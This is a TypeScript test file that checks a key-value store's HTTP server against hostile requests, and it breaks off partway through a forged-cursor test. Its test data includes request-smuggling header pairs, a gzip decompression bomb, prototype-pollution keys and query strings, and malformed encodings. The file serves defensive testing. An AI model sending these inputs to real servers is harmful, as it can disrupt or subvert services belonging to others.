import { brotliCompressSync, crc32, deflateSync, gzipSync } from 'node:zlib';
import { KvService, SCAN_MIN_KEYS } from '../src/kv/kv.service';
import { http, HttpAnswer } from './support/http-client';
import {
  rawConversation,
  rawExchange,
  RawExchange,
  RawOptions,
  rawRequest,
  RawResponse,
} from './support/raw-http';
import { HTTP_ADAPTERS, startTestApp, TestApp } from './support/test-app';

/**
 * Hostile input over real HTTP: oversized and malformed requests, odd encodings, huge listings,
 * slow clients. Every case checks three things: the answer is a clear error (or the connection is
 * closed), the store is exactly as it was, and the server goes on serving normal requests.
 *
 * Every answer is JSON `{ "error": ... }` with the status of docs/API.md. Requests that are not
 * HTTP at all (a broken request line, conflicting framing, headers over Node's 16 KiB limit, a
 * body cut short) never reach the application: Node's HTTP parser rejects them, and the
 * server's clientError listener (src/http/server-options.ts) answers them with a JSON error
 * too, then closes the connection.
 */

/** An answer reduced to what the contract specifies: status, JSON body, whether it is JSON. */
interface Outcome {
  status: number;
  json: unknown;
  isJson: boolean;
}

function outcome(answer: HttpAnswer | RawResponse): Outcome {
  const type =
    answer.headers instanceof Headers
      ? answer.headers.get('content-type')
      : answer.headers['content-type'];
  return {
    status: answer.status,
    json: answer.json,
    isJson: /^application\/json/.test(type ?? ''),
  };
}

const jsonError = (status: number, json: object): Outcome => ({ status, json, isJson: true });
const INVALID_JSON = jsonError(400, { error: 'Invalid JSON' });
const BAD_KEY_ENCODING = { error: 'Key has malformed percent-encoding or is not UTF-8' };
const TOO_LARGE_HEADERS = jsonError(431, {
  error: 'Request headers are too large (16 KiB at most)',
});
const UNSUPPORTED_CODING = jsonError(415, {
  error: 'Unsupported Content-Encoding: send identity, gzip or deflate',
});
const CORRUPT_CODING = jsonError(400, {
  error:
    'Body is not valid data of its Content-Encoding (a corrupt or truncated gzip or deflate stream)',
});

/**
 * What a raw exchange that the platform refuses below the application looks like: every answer
 * (if any) a 4xx with a JSON error body, and the connection closed by the server.
 */
function refusedBelowTheApp(exchange: RawExchange) {
  return {
    closed: exchange.closed,
    statuses: exchange.responses.map((response) =>
      response.status >= 400 && response.status < 500 && isJsonError(response) ? '4xx' : 'other',
    ),
  };
}

function isJsonError(response: RawResponse): boolean {
  const { error } = (response.json ?? {}) as { error?: unknown };
  return outcome(response).isJson && typeof error === 'string' && error.length > 0;
}

/** The opposite of a refusal: a 2xx anywhere among the answers. */
const anySuccess = (exchange: RawExchange) =>
  exchange.responses.some((response) => response.status < 300);

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** `size` items at a time, in order; keeps the load of a test bounded. */
async function inBatches<T, R>(items: T[], size: number, run: (item: T) => Promise<R>) {
  const results: R[] = [];
  for (let at = 0; at < items.length; at += size) {
    results.push(...(await Promise.all(items.slice(at, at + size).map(run))));
  }
  return results;
}

function flipByte(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] ^= 0xff;
  return copy;
}

/** A cursor built the way the server builds its own (base64url of a checksummed position). */
function forgeCursor(snapshotRevision: number, afterCreateRevision: number): string {
  const body = `c1.${snapshotRevision}.${afterCreateRevision}`;
  return Buffer.from(`${body}.${crc32(body).toString(36)}`).toString('base64url');
}

describe.each(HTTP_ADAPTERS)('hostile input over HTTP (%s)', (adapter) => {
  describe('malformed, oversized and odd requests', () => {
    const MAX_KEY = 64;
    const MAX_VALUE = 256 * 1024;
    const KNOWN = '{"name":"kept","list":[1,"two",null]}';
    let server: TestApp;
    const call = (
      method: string,
      path: string,
      body?: string | Buffer,
      headers?: Record<string, string>,
    ) => http(server.url, method, path, body, headers);
    const raw = (data: string | Buffer | Array<string | Buffer>, options?: RawOptions) =>
      rawExchange(server.url, data, options);

    interface StoreState {
      keys: string;
      known: string;
      revision: string | null;
    }

    /** What a rejected request must leave alone: the listing, a value, the store revision. */
    const storeState = async (): Promise<StoreState> => {
      const keys = await call('GET', '/keys');
      const known = await call('GET', '/key/known');
      expect([keys.status, known.status]).toEqual([200, 200]);
      return { keys: keys.text, known: known.text, revision: known.headers.get('x-kv-revision') };
    };
    /** Also proves that the server still answers normal requests. */
    const expectUnchanged = async (before: StoreState) =>
      expect(await storeState()).toEqual(before);
    /** After accepted writes that the test itself undid: same content, later revision. */
    const expectSameContent = async (before: StoreState) => {
      const { keys, known } = await storeState();
      expect({ keys, known }).toEqual({ keys: before.keys, known: before.known });
    };

    beforeAll(async () => {
      server = await startTestApp({
        HTTP_ADAPTER: adapter,
        MAX_KEY_BYTES: String(MAX_KEY),
        MAX_VALUE_BYTES: String(MAX_VALUE),
      });
      expect((await call('PUT', '/key/known', KNOWN)).status).toBe(200);
      expect((await call('PUT', '/key/other', '"second"')).status).toBe(200);
    });

    afterAll(async () => {
      await server.close();
    });

    describe('oversized bodies and lying framing', () => {
      it('answers 413 JSON to a body one byte over MAX_VALUE_BYTES, quoting none of it', async () => {
        const before = await storeState();
        const answer = await call('PUT', '/key/known', `"${'x'.repeat(MAX_VALUE - 1)}"`);
        expect(outcome(answer)).toEqual(
          jsonError(413, { error: `Value is larger than ${MAX_VALUE} bytes`, maxBytes: MAX_VALUE }),
        );
        await expectUnchanged(before);
      });

      it('answers 413 JSON to a chunked body that grows over the limit', async () => {
        const before = await storeState();
        const chunk = `400\r\n${'7'.repeat(1024)}\r\n`;
        const body = chunk.repeat(Math.ceil(MAX_VALUE / 1024) + 10) + '0\r\n\r\n';
        const over = await raw(
          rawRequest('PUT /key/known HTTP/1.1', { 'Transfer-Encoding': 'chunked' }, body),
          { responses: 1 },
        );
        expect(over.responses.map(outcome)).toEqual([
          jsonError(413, { error: `Value is larger than ${MAX_VALUE} bytes`, maxBytes: MAX_VALUE }),
        ]);
        await expectUnchanged(before);
      });

      it('takes only the declared bytes of a Content-Length smaller than the body and refuses the rest', async () => {
        const before = await storeState();
        // The declared 10 bytes are `"xxxxxxxxx`: not JSON. The rest is not an HTTP request.
        const exchange = await raw(
          rawRequest(
            'PUT /key/known HTTP/1.1',
            { 'Content-Length': '10' },
            `"${'x'.repeat(MAX_VALUE + 10_000)}"`,
          ),
        );
        expect(refusedBelowTheApp(exchange)).toEqual({
          closed: true,
          statuses: exchange.responses.map(() => '4xx'),
        });
        expect(anySuccess(exchange)).toBe(false);
        await expectUnchanged(before);
      });

      it('stores nothing when the body ends before its Content-Length (within the limit)', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest('PUT /key/known HTTP/1.1', { 'Content-Length': '1000' }, '"short"'),
          { endAfterWrite: true },
        );
        expect(refusedBelowTheApp(exchange)).toEqual({
          closed: true,
          statuses: exchange.responses.map(() => '4xx'),
        });
        expect(anySuccess(exchange)).toBe(false);
        await expectUnchanged(before);
      });

      it('stores nothing when a Content-Length over the limit comes with a short body', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest(
            'PUT /key/known HTTP/1.1',
            { 'Content-Length': String(MAX_VALUE + 1000) },
            '"short"',
          ),
          { endAfterWrite: true },
        );
        expect(exchange.closed).toBe(true);
        // An early 413 from the application, or nothing but the platform's own 400.
        for (const answer of exchange.responses) expect([400, 413]).toContain(answer.status);
        const fromApp = exchange.responses.filter((answer) => answer.status === 413);
        for (const answer of fromApp) {
          expect(outcome(answer)).toEqual(
            jsonError(413, {
              error: `Value is larger than ${MAX_VALUE} bytes`,
              maxBytes: MAX_VALUE,
            }),
          );
        }
        await expectUnchanged(before);
      });

      it.each([
        [
          'Content-Length with Transfer-Encoding',
          'Content-Length: 3\r\nTransfer-Encoding: chunked',
        ],
        ['two different Content-Lengths', 'Content-Length: 3\r\nContent-Length: 5'],
        ['a negative Content-Length', 'Content-Length: -1'],
        ['a non-numeric Content-Length', 'Content-Length: 3x'],
        ['an unknown Transfer-Encoding', 'Transfer-Encoding: gzip, identity'],
      ])('refuses %s (request smuggling) before the application sees it', async (_name, head) => {
        const before = await storeState();
        const exchange = await raw(
          `PUT /key/known HTTP/1.1\r\nHost: 127.0.0.1\r\n${head}\r\n\r\n1\r\n1\r\n0\r\n\r\n"smuggled"`,
        );
        expect(refusedBelowTheApp(exchange)).toEqual({ closed: true, statuses: ['4xx'] });
        expect(exchange.responses.map(outcome)).toEqual([jsonError(400, { error: 'Bad request' })]);
        await expectUnchanged(before);
      });
    });

    describe('bodies where none is expected', () => {
      it('ignores a body sent with GET', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest('GET /key/known HTTP/1.1', { 'Content-Type': 'text/plain' }, '{bad json'),
          { responses: 1 },
        );
        expect(exchange.responses.map(outcome)).toEqual([
          { status: 200, json: { key: 'known', value: JSON.parse(KNOWN) }, isJson: true },
        ]);
        await expectUnchanged(before);
      });

      it('ignores an oversized body sent with GET, or refuses it with 413 JSON', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest('GET /key/known HTTP/1.1', {}, 'g'.repeat(MAX_VALUE + 1)),
          { responses: 1 },
        );
        // Express reads (and limits) every body; Fastify does not read GET bodies at all.
        expect([
          { status: 200, json: { key: 'known', value: JSON.parse(KNOWN) }, isJson: true },
          jsonError(413, { error: `Value is larger than ${MAX_VALUE} bytes`, maxBytes: MAX_VALUE }),
        ]).toContainEqual(outcome(exchange.responses[0]));
        await expectUnchanged(before);
      });

      it('deletes on DELETE whatever body comes with it', async () => {
        const before = await storeState();
        expect((await call('PUT', '/key/victim', '1')).status).toBe(200);
        const exchange = await raw(
          rawRequest('DELETE /key/victim HTTP/1.1', {}, '{"key":"known","also":"delete me"}'),
          { responses: 1 },
        );
        expect(exchange.responses.map(outcome)).toEqual([
          { status: 200, json: { success: true, key: 'victim' }, isJson: true },
        ]);
        expect((await call('GET', '/key/victim')).status).toBe(404);
        await expectSameContent(before);
      });
    });

    describe('header and URL sizes', () => {
      it('answers 431 to a header over Node’s 16 KiB limit and keeps serving', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest('GET /keys HTTP/1.1', { 'X-Big': 'h'.repeat(20_000) }),
        );
        // Node's parser refuses it before any route runs; the clientError listener answers.
        expect(refusedBelowTheApp(exchange)).toEqual({ closed: true, statuses: ['4xx'] });
        expect(exchange.responses.map(outcome)).toEqual([TOO_LARGE_HEADERS]);
        await expectUnchanged(before);
      });

      it('answers 414 JSON to a key of MAX_KEY_BYTES + 1 bytes, in ASCII or not', async () => {
        const before = await storeState();
        const tooLong = jsonError(414, {
          error: `Key is longer than ${MAX_KEY} bytes`,
          maxBytes: MAX_KEY,
        });
        for (const key of ['k'.repeat(MAX_KEY + 1), '%C3%A9'.repeat(MAX_KEY / 2) + 'x']) {
          for (const method of ['PUT', 'GET', 'DELETE']) {
            const answer = await call(method, `/key/${key}`, method === 'PUT' ? '1' : undefined);
            expect({ method, ...outcome(answer) }).toEqual({ method, ...tooLong });
          }
        }
        // Exactly MAX_KEY_BYTES is still a key; removed again below.
        expect((await call('PUT', `/key/${'k'.repeat(MAX_KEY)}`, '1')).status).toBe(200);
        expect((await call('DELETE', `/key/${'k'.repeat(MAX_KEY)}`)).status).toBe(200);
        await expectSameContent(before);
      });

      it('answers 414 JSON, not echoing the key, to a URL just under Node’s header limit', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest(`PUT /key/${'u'.repeat(15_000)} HTTP/1.1`, {}, '"long"'),
          { responses: 1 },
        );
        expect(exchange.responses.map(outcome)).toEqual([
          jsonError(414, { error: `Key is longer than ${MAX_KEY} bytes`, maxBytes: MAX_KEY }),
        ]);
        await expectUnchanged(before);
      });

      it('answers 431 to a URL over Node’s header limit', async () => {
        const before = await storeState();
        const exchange = await raw(rawRequest(`PUT /key/${'u'.repeat(20_000)} HTTP/1.1`, {}, '1'));
        expect(refusedBelowTheApp(exchange)).toEqual({ closed: true, statuses: ['4xx'] });
        expect(exchange.responses.map(outcome)).toEqual([TOO_LARGE_HEADERS]);
        await expectUnchanged(before);
      });
    });

    describe('malformed JSON and odd encodings', () => {
      const utf16 = (text: string, bigEndian: boolean, bom: boolean) => {
        const le = Buffer.from((bom ? '\ufeff' : '') + text, 'utf16le');
        return bigEndian ? Buffer.from(le).swap16() : le;
      };
      const invalid: Array<[string, string | Buffer]> = [
        ['empty', ''],
        ['whitespace only', ' \r\n\t '],
        ['truncated object', '{"a":1'],
        ['truncated string', '"abc'],
        ['truncated escape', '"\\u12'],
        ['trailing garbage after a value', '1 2'],
        ['trailing garbage after an object', '{"a":1}x'],
        ['two documents', '{}{}'],
        ['BOM-prefixed', '\ufeff{"a":1}'],
        ['NaN', 'NaN'],
        ['Infinity', 'Infinity'],
        ['-Infinity', '-Infinity'],
        ['undefined', 'undefined'],
        ['a member set to undefined', '{"a":undefined}'],
        ['single quotes', "'single'"],
        ['single-quoted member names', "{'a':1}"],
        ['unquoted member names', '{a:1}'],
        ['trailing comma in an array', '[1,]'],
        ['trailing comma in an object', '{"a":1,}'],
        ['a hex number', '0x10'],
        ['a leading zero', '01'],
        ['a leading plus', '+1'],
        ['a bare fraction', '.5'],
        ['a bad escape', '"\\x41"'],
        ['a raw newline in a string', '"a\nb"'],
        ['a raw NUL byte in a string', '"a\u0000b"'],
        ['a comment', '/* c */ 1'],
        ['a JavaScript expression', '(function(){return 1})()'],
        ['invalid UTF-8 (0xFF)', Buffer.from([0x22, 0xff, 0x22])],
        ['overlong UTF-8 (C0 AF)', Buffer.from([0x22, 0xc0, 0xaf, 0x22])],
        ['a UTF-8-encoded surrogate (ED A0 80)', Buffer.from([0x22, 0xed, 0xa0, 0x80, 0x22])],
        ['a truncated UTF-8 sequence', Buffer.from([0x22, 0xe2, 0x82, 0x22])],
        ['a code point over U+10FFFF', Buffer.from([0x22, 0xf4, 0x90, 0x80, 0x80, 0x22])],
        ['Latin-1', Buffer.from('"caf\xe9"', 'latin1')],
        ['UTF-16LE with BOM', utf16('{"a":"b"}', false, true)],
        ['UTF-16BE with BOM', utf16('{"a":"b"}', true, true)],
        ['UTF-16LE without BOM', utf16('"ab"', false, false)],
        ['UTF-16BE without BOM', utf16('"ab"', true, false)],
        ['arrays 65 deep', '['.repeat(65) + ']'.repeat(65)],
        ['objects 65 deep', '{"a":'.repeat(64) + '{}' + '}'.repeat(64)],
        ['arrays 100,000 deep', '['.repeat(100_000) + ']'.repeat(100_000)],
        ['objects 40,000 deep', '{"a":'.repeat(40_000) + '1' + '}'.repeat(40_000)],
        ['200,000 unclosed brackets', '['.repeat(200_000)],
      ];

      it.each(invalid)('answers 400 Invalid JSON to %s', async (_name, body) => {
        const before = await storeState();
        const answer = await call('PUT', '/key/known', Buffer.from(body));
        expect(outcome(answer)).toEqual(INVALID_JSON);
        expect((await call('PUT', '/ttl/known', Buffer.from(body))).status).toBe(400);
        await expectUnchanged(before);
      });

      const OUT_OF_RANGE = 'Number is out of the range of a 64-bit float';
      const inexact = (becomes: string) =>
        `Number cannot be stored exactly as a 64-bit float: it would become ${becomes}`;
      /** JSON that JSON.parse takes, but changes: refused with the reason and where. */
      const changed: Array<[string, string, string, string]> = [
        [
          "the load test's document",
          '{"id":12345678901234567890,"n":9007199254740993,"d":{"a":1,"a":2}}',
          inexact('12345678901234567000'),
          '/id',
        ],
        ['2^53 + 1', '{"n":9007199254740993}', inexact('9007199254740992'), '/n'],
        [
          'a fraction beyond 17 digits',
          '[0.12345678901234567890]',
          inexact('0.12345678901234568'),
          '/0',
        ],
        ['a number that underflows', '{"tiny":1e-400}', inexact('0'), '/tiny'],
        ['1e400', '1e400', OUT_OF_RANGE, ''],
        ['-1e400', '-1e400', OUT_OF_RANGE, ''],
        ['an overflowing number deep inside', '{"a":[1,{"b":1E999}]}', OUT_OF_RANGE, '/a/1/b'],
        ['an overflowing number without exponent', '1' + '0'.repeat(400), OUT_OF_RANGE, ''],
        ['a repeated member name', '{"d":{"a":1,"a":2}}', 'Duplicate member name', '/d/a'],
        [
          'a name repeated by an escape',
          '{"ttl":1,"\\u0074tl":2}',
          'Duplicate member name',
          '/ttl',
        ],
      ];

      it.each(changed)(
        'answers 400 with the reason to %s',
        async (_name, body, reason, pointer) => {
          const before = await storeState();
          const answer = await call('PUT', '/key/known', body);
          expect(outcome(answer)).toEqual(
            jsonError(400, { error: 'Invalid JSON', reason, pointer }),
          );
          const ttl = await call('PUT', '/ttl/known', body);
          expect(outcome(ttl)).toEqual(jsonError(400, { error: 'Invalid JSON', reason, pointer }));
          await expectUnchanged(before);
        },
      );

      const accepted: Array<[string, string, string]> = [
        ['an escaped NUL inside a string', '"a\\u0000b"', '"a\\u0000b"'],
        ['an escaped NUL as a member name', '{"\\u0000":0}', '{"\\u0000":0}'],
        ['an escaped lone surrogate', '"\\ud800"', '"\\ud800"'],
        ['escaped line separators', '"\\u2028\\u2029"', '"\u2028\u2029"'],
        ['arrays 64 deep', '['.repeat(64) + ']'.repeat(64), '['.repeat(64) + ']'.repeat(64)],
        [
          'objects 64 deep',
          '{"a":'.repeat(63) + '{}' + '}'.repeat(63),
          '{"a":'.repeat(63) + '{}' + '}'.repeat(63),
        ],
        ['1.7976931348623157e308', '1.7976931348623157e308', '1.7976931348623157e+308'],
        [
          'numbers whose value survives',
          '[0.1,1.0,1E+2,-0,2.50,9007199254740992]',
          '[0.1,1,100,0,2.5,9007199254740992]',
        ],
        ['the same name in sibling objects', '[{"a":1},{"a":2}]', '[{"a":1},{"a":2}]'],
        ['__proto__ as a member', '{"__proto__":{"x":1}}', '{"__proto__":{"x":1}}'],
      ];

      it.each(accepted)('stores %s and gives it back exactly', async (_name, body, canonical) => {
        const before = await storeState();
        const put = await call('PUT', '/key/edge', body);
        expect(put.status).toBe(200);
        expect(put.text).toBe(`{"success":true,"key":"edge","value":${canonical}}`);
        expect((await call('GET', '/key/edge')).text).toBe(`{"key":"edge","value":${canonical}}`);
        expect((await call('DELETE', '/key/edge')).status).toBe(200);
        await expectSameContent(before);
      });

      it('stores a huge array within the size limit', async () => {
        const before = await storeState();
        const body = '[' + '0,'.repeat(120_000) + '0]';
        expect(body.length).toBeLessThan(MAX_VALUE);
        expect((await call('PUT', '/key/array', body)).status).toBe(200);
        const read = await call('GET', '/key/array');
        expect((read.json as { value: number[] }).value).toHaveLength(120_001);
        expect((await call('DELETE', '/key/array')).status).toBe(200);
        await expectSameContent(before);
      });

      it.each([
        'application/json; charset=utf-16',
        'application/json; charset=ebcdic',
        'text/plain; charset=x-no-such-charset',
        'application/octet-stream',
        'multipart/form-data; boundary=x',
        'application/json; charset=',
        ';;;',
        '',
        'garbage',
        'a/b/c',
      ])('parses the body as UTF-8 JSON whatever Content-Type %p says', async (type) => {
        const before = await storeState();
        const put = await call('PUT', '/key/typed', '"x"', { 'Content-Type': type });
        expect(outcome(put)).toEqual({
          status: 200,
          json: { success: true, key: 'typed', value: 'x' },
          isJson: true,
        });
        expect((await call('DELETE', '/key/typed')).status).toBe(200);
        await expectSameContent(before);
      });

      it('accepts a body sent with Content-Encoding: identity', async () => {
        const before = await storeState();
        const put = await call('PUT', '/key/coded', '"plain"', { 'Content-Encoding': 'identity' });
        expect(put.status).toBe(200);
        expect((await call('DELETE', '/key/coded')).status).toBe(200);
        await expectSameContent(before);
      });

      it.each([
        ['gzip', gzipSync],
        ['deflate', deflateSync],
        [' GZip ', gzipSync],
      ] as const)('decodes a %p body, never storing the compressed bytes', async (coding, code) => {
        const before = await storeState();
        const put = await call('PUT', '/key/coded', code('"zipped"'), {
          'Content-Encoding': coding,
        });
        expect(outcome(put)).toEqual({
          status: 200,
          json: { success: true, key: 'coded', value: 'zipped' },
          isJson: true,
        });
        expect((await call('GET', '/key/coded')).json).toEqual({ key: 'coded', value: 'zipped' });
        expect((await call('DELETE', '/key/coded')).status).toBe(200);
        await expectSameContent(before);
      });

      it.each([
        ['not gzip at all', 'gzip', Buffer.from('"plain, not gzip"')],
        ['truncated gzip', 'gzip', gzipSync(`"${'t'.repeat(500)}"`).subarray(0, 20)],
        ['gzip with a flipped byte', 'gzip', flipByte(gzipSync(`"${'f'.repeat(500)}"`), 12)],
        ['not deflate at all', 'deflate', Buffer.from('garbage')],
      ])('answers 400 JSON that says so to %s', async (_name, coding, body) => {
        const before = await storeState();
        const put = await call('PUT', '/key/known', body, { 'Content-Encoding': coding });
        expect(outcome(put)).toEqual(CORRUPT_CODING);
        await expectUnchanged(before);
      });

      it('refuses a gzip bomb that inflates past the size limit', async () => {
        const before = await storeState();
        const bomb = gzipSync(`"${' '.repeat(20 * MAX_VALUE)}"`);
        expect(bomb.length).toBeLessThan(MAX_VALUE);
        const put = await call('PUT', '/key/known', bomb, { 'Content-Encoding': 'gzip' });
        expect(outcome(put)).toEqual(
          jsonError(413, { error: `Value is larger than ${MAX_VALUE} bytes`, maxBytes: MAX_VALUE }),
        );
        await expectUnchanged(before);
      });

      it.each([
        ['x-unknown-coding', Buffer.from('"not really xyz"')],
        ['zstd', Buffer.from('"not really zstd"')],
        // Express's parser alone would decode br: refused on both platforms alike.
        ['br', brotliCompressSync('"brotli"')],
        ['gzip, deflate', deflateSync(gzipSync('"twice"'))],
      ])(
        'answers 415 Unsupported Content-Encoding to a body in %p, instead of storing it undecoded',
        async (coding, body) => {
          const before = await storeState();
          const put = await call('PUT', '/key/known', body, { 'Content-Encoding': coding });
          // RFC 9110 §15.5.16: 415 for an unsupported content coding.
          expect(outcome(put)).toEqual(UNSUPPORTED_CODING);
          await expectUnchanged(before);
        },
      );
    });

    describe('keys', () => {
      const rejectedKeys: Array<[string, string]> = [
        ['%00', 'Key must not contain U+0000 (NUL)'],
        ['a%00b', 'Key must not contain U+0000 (NUL)'],
        ['%ZZ', BAD_KEY_ENCODING.error],
        ['%FF', BAD_KEY_ENCODING.error],
        ['%C0%AF', BAD_KEY_ENCODING.error],
        ['%ED%A0%80', BAD_KEY_ENCODING.error],
        ['%F4%90%80%80', BAD_KEY_ENCODING.error],
        ['%E2%82', BAD_KEY_ENCODING.error],
        ['%', BAD_KEY_ENCODING.error],
        ['a%', BAD_KEY_ENCODING.error],
        ['a%2', BAD_KEY_ENCODING.error],
        ['%%41', BAD_KEY_ENCODING.error],
      ];

      it.each(rejectedKeys)(
        'answers 400 JSON to the key %s on every method',
        async (key, error) => {
          const before = await storeState();
          for (const [method, path] of [
            ['PUT', '/key/'],
            ['GET', '/key/'],
            ['DELETE', '/key/'],
            ['GET', '/ttl/'],
            ['PUT', '/ttl/'],
          ]) {
            const body = method === 'PUT' ? (path === '/ttl/' ? '{"ttl":5}' : '1') : undefined;
            const answer = await call(method, path + key, body);
            expect({ method, path, ...outcome(answer) }).toEqual({
              method,
              path,
              ...jsonError(400, { error }),
            });
          }
          await expectUnchanged(before);
        },
      );

      it.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'])(
        'treats %s as an ordinary key',
        async (key) => {
          const before = await storeState();
          expect((await call('GET', `/key/${key}`)).status).toBe(404);
          expect((await call('PUT', `/key/${key}`, '{"polluted":true}')).status).toBe(200);
          expect((await call('GET', `/key/${key}`)).json).toEqual({
            key,
            value: { polluted: true },
          });
          expect(((await call('GET', '/keys')).json as { keys: string[] }).keys).toContain(key);
          expect((await call('DELETE', `/key/${key}`)).status).toBe(200);
          expect((await call('GET', `/key/${key}`)).status).toBe(404);
          expect(({} as Record<string, unknown>).polluted).toBeUndefined();
          await expectSameContent(before);
        },
      );

      it('treats a key of only "/" as the key "/", written raw or escaped', async () => {
        const before = await storeState();
        expect((await call('PUT', '/key//', '"slash"')).json).toEqual({
          success: true,
          key: '/',
          value: 'slash',
        });
        expect((await call('GET', '/key/%2F')).json).toEqual({ key: '/', value: 'slash' });
        expect((await call('DELETE', '/key/%2f')).json).toEqual({ success: true, key: '/' });
        await expectSameContent(before);
      });
    });

    describe('odd request targets over a raw socket', () => {
      it('reads an absolute-form PUT target as its path (or refuses it), never as another key', async () => {
        const before = await storeState();
        const exchange = await raw(
          rawRequest(`PUT ${server.url}/key/abs HTTP/1.1`, {}, '"absolute"'),
          { responses: 1 },
        );
        // RFC 9112 §3.2.2: a server must accept the absolute-form; the key is the path's.
        const [answer] = exchange.responses;
        expect([{ storedAs: 'abs' }, { refused: 400 }]).toContainEqual(
          answer.status < 300
            ? { storedAs: (answer.json as { key: string }).key }
            : { refused: answer.status },
        );
        await call('DELETE', '/key/abs');
        await expectSameContent(before);
      });

      it('reads an absolute-form GET target as its path (or refuses it)', async () => {
        const before = await storeState();
        const exchange = await raw(rawRequest(`GET ${server.url}/key/known HTTP/1.1`), {
          responses: 1,
        });
        const [answer] = exchange.responses;
        expect([
          { status: 200, json: { key: 'known', value: JSON.parse(KNOWN) }, isJson: true },
          jsonError(400, { error: 'Bad request' }),
        ]).toContainEqual(outcome(answer));
        await expectUnchanged(before);
      });

      it.each(['GET', 'PUT', 'DELETE'])('answers 404 JSON to %s *', async (method) => {
        const before = await storeState();
        const exchange = await raw(rawRequest(`${method} * HTTP/1.1`, {}, '1'), { responses: 1 });
        expect(exchange.responses.map(outcome)).toEqual([jsonError(404, { error: 'Not found' })]);
        await expectUnchanged(before);
      });

      it.each([
        ['OPTIONS * (the asterisk form)', 'OPTIONS * HTTP/1.1'],
        ['OPTIONS on a key, without CORS headers', 'OPTIONS /key/known HTTP/1.1'],
      ])('answers %s with no error page that is not JSON', async (_name, line) => {
        const before = await storeState();
        const exchange = await raw(rawRequest(line), { responses: 1 });
        const [answer] = exchange.responses;
        // docs/API.md: every body kvstore sends is JSON (an empty 204 sends none).
        expect({
          below500: answer.status < 500,
          bodyIsEmptyOrJson: answer.body === '' || outcome(answer).isJson,
        }).toEqual({ below500: true, bodyIsEmptyOrJson: true });
        await expectUnchanged(before);
      });

      it.each([
        ['a target without a leading slash', 'PUT key/known HTTP/1.1'],
        ['a space inside the target', 'PUT /key/kno wn HTTP/1.1'],
        ['a tab inside the target', 'PUT /key/kno\twn HTTP/1.1'],
        ['an unknown HTTP version', 'PUT /key/known HTTP/7.0'],
        ['a lower-case method', 'put /key/known HTTP/1.1'],
        ['a method with a slash', 'P/T /key/known HTTP/1.1'],
        ['a NUL in the target', 'PUT /key/kn\u0000own HTTP/1.1'],
      ])('refuses %s below the application with 400 JSON and keeps serving', async (_n, line) => {
        const before = await storeState();
        const exchange = await raw(rawRequest(line, {}, '"hijacked"'));
        // llhttp rejects the request line itself: the clientError listener answers, in JSON.
        expect(refusedBelowTheApp(exchange)).toEqual({ closed: true, statuses: ['4xx'] });
        expect(exchange.responses.map(outcome)).toEqual([jsonError(400, { error: 'Bad request' })]);
        expect(anySuccess(exchange)).toBe(false);
        await expectUnchanged(before);
      });

      it('reads raw UTF-8 bytes in the target as UTF-8, or refuses them', async () => {
        const before = await storeState();
        const line = Buffer.concat([
          Buffer.from('PUT /key/caf'),
          Buffer.from('é', 'utf8'),
          Buffer.from(' HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 3\r\n\r\n"r"'),
        ]);
        const exchange = await raw(line, { responses: 1 });
        const [answer] = exchange.responses;
        expect([{ storedAs: 'café' }, { refused: 400 }]).toContainEqual(
          answer.status < 300
            ? { storedAs: (answer.json as { key: string }).key }
            : { refused: answer.status },
        );
        await call('DELETE', '/key/caf%C3%A9');
        await expectSameContent(before);
      });
    });

    describe('query strings', () => {
      it.each([
        ['limit=99999999999999999999', 'limit must be a positive integer'],
        ['limit=10001', 'limit must be an integer from 1 to 10000'],
        ['limit=-1', 'limit must be a positive integer'],
        ['limit=1.5', 'limit must be a positive integer'],
        ['limit=1e3', 'limit must be a positive integer'],
        ['limit=0x10', 'limit must be a positive integer'],
        ['limit=%00', 'limit must be a positive integer'],
        ['limit=%201', 'limit must be a positive integer'],
        ['limit=1&limit=2', 'limit must be given once'],
        ['pattern=a&pattern=b', 'pattern must be given once'],
        ['pattern=%5Babc', undefined],
        ['limit=2&cursor=', undefined],
        ['limit=2&cursor=x&cursor=y', 'cursor must be given once'],
        ['limit=2&cursor=!!!', 'Invalid cursor: pass back a nextCursor unchanged'],
        ['limit=2&cursor=AAAA…(5000)', 'Invalid cursor: pass back a nextCursor unchanged'],
        ['cursor=<a well-formed cursor>', 'cursor needs limit: pass the limit of the first page'],
      ])('answers 400 JSON to GET /keys?%s', async (label, error) => {
        const query = label
          .replace('AAAA…(5000)', 'A'.repeat(5000))
          .replace('<a well-formed cursor>', forgeCursor(1, 0));
        const before = await storeState();
        const answer = await call('GET', `/keys?${query}`);
        expect(answer.status).toBe(400);
        expect(outcome(answer).isJson).toBe(true);
        if (error !== undefined) expect(answer.json).toEqual({ error });
        else expect(typeof (answer.json as { error?: unknown }).error).toBe('string');
        await expectUnchanged(before);
      });

      it('ignores parameters it does not know, bracketed or prototype-named ones included', async () => {
        const before = await storeState();
        for (const query of [
          'limit[]=1',
          'limit[a]=1',
          'foo=bar&&&=&%3D=%26',
          '__proto__=x&constructor=y',
          '__proto__[polluted]=1&constructor[prototype][polluted]=1',
          'a[__proto__][polluted]=1',
        ]) {
          const answer = await call('GET', `/keys?${query}`);
          expect({ query, status: answer.status, text: answer.text }).toEqual({
            query,
            status: 200,
            text: before.keys,
          });
        }
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        await expectUnchanged(before);
      });

      it('refuses malformed and forged cursors with 400', async () => {
        const before = await storeState();
        const page = (await call('GET', '/keys?limit=1')).json as { nextCursor: string };
        expect(typeof page.nextCursor).toBe('string');
        const genuine = Buffer.from(page.nextCursor, 'base64url').toString('latin1');
        const [, snapshot] = genuine.split('.').map(Number);
        const forged = [
          // A position from another revision space: the store has not reached it.
          forgeCursor(snapshot + 1_000_000, 1),
          forgeCursor(Number.MAX_SAFE_INTEGER + 2, 0),
          // Cursor fields out of order, negative, not integers.
          forgeCursor(snapshot, snapshot + 1),
          forgeCursor(snapshot, -1),
          Buffer.from(`c1.${snapshot}.1.5.zz`).toString('base64url'),
          Buffer.from(`c1.${snapshot}.1.0`).toString('base64url'),
